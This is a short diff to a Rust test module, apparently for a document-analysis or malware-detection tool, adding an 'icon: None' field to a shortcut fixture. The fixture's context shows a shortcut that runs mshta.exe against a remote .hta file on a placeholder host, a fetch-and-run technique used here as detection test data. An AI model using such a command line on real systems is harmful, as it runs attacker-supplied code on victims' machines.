@@ -223,6 +223,7 @@ mod tests {
             targets: vec!["C:\\Windows\\System32\\mshta.exe".to_owned()],
             arguments: "http://shortcut.invalid/a.hta".to_owned(),
             minimized: false,
+            icon: None,
         });
         let mut document = testing::holding(Kind::Docx, b"");
         document.facts.push(Fact::External {
